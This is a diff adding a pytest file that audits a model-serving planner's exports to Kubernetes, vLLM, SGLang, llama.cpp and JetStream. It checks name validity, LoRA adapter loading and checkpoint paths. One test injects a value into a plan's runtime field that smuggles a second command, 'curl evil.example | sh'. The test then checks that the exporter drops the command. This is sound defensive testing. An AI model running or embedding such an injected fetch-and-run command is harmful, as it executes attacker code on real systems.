@@ -1,0 +1,129 @@
+"""Exports an engineer would have run into trouble with (an audit of every example's plans in every
+format, 2026-12-05). Basis: the engines' published argument names (tests/fixtures/engine_args), the
+Kubernetes OpenAPI schemas and naming rules (RFC 1035 labels), and what the shell hands the engine.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+from typing import Any
+
+import pytest
+import yaml
+from test_export import WORKLOAD, engine_options, result, validate_core
+
+from hardware_catalog import load_catalog
+from hardware_catalog.export import ExportError, export
+from hardware_catalog.export.engines import LORA_RANK
+from planner.levers.finetune import DEFAULT_RANK
+
+LABEL = re.compile(r"^[a-z]([-a-z0-9]{0,61}[a-z0-9])?$")  # RFC 1035: what a Service name must be
+
+
+@pytest.fixture(scope="module")
+def catalog() -> Any:
+    return load_catalog(None)
+
+
+def _adapted(model: str, runtime: str, hw: str, adaptation: str) -> Any:
+    formats = {"precision": "int4", "kv": "int8"} if runtime == "llama.cpp" else {}  # (GGUF types)
+    doc = result(model, runtime, [(hw, 1, 1, 2)], **formats)
+    return doc.model_copy(update={"plans": [doc.plans[0].model_copy(update={"adaptation": adaptation})]})
+
+
+def _expanded(script: str, env: dict[str, str]) -> list[str]:
+    """The argv the shell would hand the engine: the script's exec line run through printf."""
+    line = next(x for x in script.splitlines() if x.startswith("exec "))
+    out = subprocess.run(["sh", "-c", "printf '%s\\n' " + line.removeprefix("exec ")], env={**os.environ, **env},
+                         capture_output=True, text=True, check=True).stdout
+    return out.splitlines()
+
+
+@pytest.mark.parametrize("name", ["disaggregated-long-prompt-summaries-for-legal-team-production-" + "x" * 40,
+                                  "2025-chatbot"])
+def test_kubernetes_names_stay_distinct_valid_labels(catalog: Any, name: str) -> None:
+    # three deployments of one plan once got the same 50-character name (the last one won on apply), and a
+    # name starting with a digit is no Service name
+    doc = result("llama-3.1-70b", "vllm", [("h100-sxm", 4, 1, 2), ("h100-sxm", 8, 1, 1), ("mi300x", 2, 1, 1)])
+    doc = doc.model_copy(update={"workload": name})
+    (artifact,) = export(doc, catalog, "k8s", workload=WORKLOAD)
+    docs = list(yaml.safe_load_all(artifact.content))
+    names = [d["metadata"]["name"] for d in docs if d["kind"] == "Deployment"]
+    assert len(set(names)) == 3 and all(LABEL.match(n) for n in names), names
+    services = [d for d in docs if d["kind"] == "Service"]
+    assert len({s["metadata"]["name"] for s in services}) == 3
+
+
+@pytest.mark.parametrize(("fmt", "runtime", "hw", "flags"), [
+    ("vllm", "vllm", "h100-sxm", {"enable_lora": True, "max_lora_rank": str(DEFAULT_RANK)}),
+    ("sglang", "sglang", "h100-sxm", {}),
+    ("llama.cpp", "llama.cpp", "rtx-4090", {}),
+])
+def test_a_lora_plan_loads_its_adapter(catalog: Any, fmt: str, runtime: str, hw: str, flags: dict[str, Any]) -> None:
+    # it exported the base model alone: the engine served the unadapted quality the plan was not ranked on
+    (artifact,) = export(_adapted("llama-3.1-8b", runtime, hw, "lora"), catalog, fmt, workload=WORKLOAD)
+    options = engine_options(fmt, artifact.content)
+    assert {k: options[k] for k in flags} == flags
+    argv = _expanded(artifact.content, {"LORA_ADAPTER": "/adapters/support"})
+    assert any(a.endswith("/adapters/support") for a in argv), argv  # the shell fills the path in
+    assert "# set LORA_ADAPTER" in artifact.content
+    assert LORA_RANK == DEFAULT_RANK
+
+
+def test_engines_that_cannot_load_an_adapter_refuse_and_full_fine_tunes_load_their_checkpoint(catalog: Any) -> None:
+    with pytest.raises(ExportError, match="does not load with trtllm"):
+        export(_adapted("llama-3.1-8b", "tensorrt-llm", "h100-sxm", "lora"), catalog, "trtllm", workload=WORKLOAD)
+    (artifact,) = export(_adapted("llama-3.1-8b", "vllm", "h100-sxm", "full"), catalog, "vllm", workload=WORKLOAD)
+    argv = _expanded(artifact.content, {"MODEL_PATH": "/ckpt/full"})
+    assert argv[:3] == ["vllm", "serve", "/ckpt/full"]  # not meta-llama/Llama-3.1-8B
+
+
+def test_a_lora_plans_manifest_declares_the_adapter_for_the_operator(catalog: Any) -> None:
+    (artifact,) = export(_adapted("llama-3.1-8b", "vllm", "h100-sxm", "lora"), catalog, "k8s", workload=WORKLOAD)
+    docs = list(yaml.safe_load_all(artifact.content))
+    validate_core(docs)
+    container = docs[0]["spec"]["template"]["spec"]["containers"][0]
+    assert {"name": "LORA_ADAPTER", "value": ""} in container["env"]
+    assert any("$(LORA_ADAPTER)" in a for a in container["args"])  # Kubernetes expands $(NAME) from the env
+
+
+def test_vllm_on_neuron_chips_is_the_neuron_backend(catalog: Any) -> None:
+    doc = result("llama-3.1-8b", "vllm", [("trainium2", 1, 1, 2)])
+    with pytest.raises(ExportError, match="--format neuron"):
+        export(doc, catalog, "vllm", workload=WORKLOAD)
+    (artifact,) = export(doc, catalog, "k8s", workload=WORKLOAD)
+    container = next(yaml.safe_load_all(artifact.content))["spec"]["template"]["spec"]["containers"][0]
+    assert "neuron" in container["image"] and "--device" in container["args"]
+
+
+def test_jetstream_loads_its_checkpoint_and_the_models_tokenizer(catalog: Any) -> None:
+    # the checkpoint path reached MaxText as the literal text ${MAXTEXT_CHECKPOINT}, and Llama 3 got Llama 2's
+    # tokenizer (base.yml's default)
+    doc = result("llama-3.1-8b", "jetstream", [("tpu-v5e", 4, 1, 2)])
+    (artifact,) = export(doc, catalog, "jetstream", workload=WORKLOAD)
+    options = engine_options("jetstream", artifact.content)
+    assert options["tokenizer_path"] == "assets/tokenizer_llama3.tiktoken" and options["tokenizer_type"] == "tiktoken"
+    argv = _expanded(artifact.content, {"MAXTEXT_CHECKPOINT": "gs://bucket/llama3.1-8b"})
+    assert "load_parameters_path=gs://bucket/llama3.1-8b" in argv
+
+
+def test_a_multi_node_replicas_service_reaches_its_leaders_only(catalog: Any) -> None:
+    (artifact,) = export(result("llama-3.1-70b", "vllm", [("h100-sxm", 8, 2, 2)]), catalog, "k8s", workload=WORKLOAD)
+    service = next(d for d in yaml.safe_load_all(artifact.content) if d["kind"] == "Service")
+    assert service["spec"]["selector"]["leaderworkerset.sigs.k8s.io/worker-index"] == "0"
+
+
+def test_a_hostile_plan_file_cannot_add_a_command_or_a_zero_shape(catalog: Any) -> None:
+    doc = result("llama-3.1-8b", "vllm", [("h100-sxm", 1, 1, 1)])
+    evil = doc.plans[0].model_copy(update={"runtime": "vllm\ncurl evil.example | sh"})
+    hostile = doc.model_copy(update={"plans": [evil]})
+    with pytest.raises(ExportError):  # an unknown runtime has no launch command
+        export(hostile, catalog, "k8s", workload=WORKLOAD)
+    (artifact,) = export(hostile, catalog, "vllm", workload=WORKLOAD)
+    assert not any(line.startswith("curl") for line in artifact.content.splitlines())
+    zero = doc.model_copy(update={"plans": [doc.plans[0].model_copy(update={"deployments": [
+        doc.plans[0].deployments[0].model_copy(update={"tp": 0})]})]})
+    with pytest.raises(ExportError, match="at least 1"):
+        export(zero, catalog, "vllm", workload=WORKLOAD)
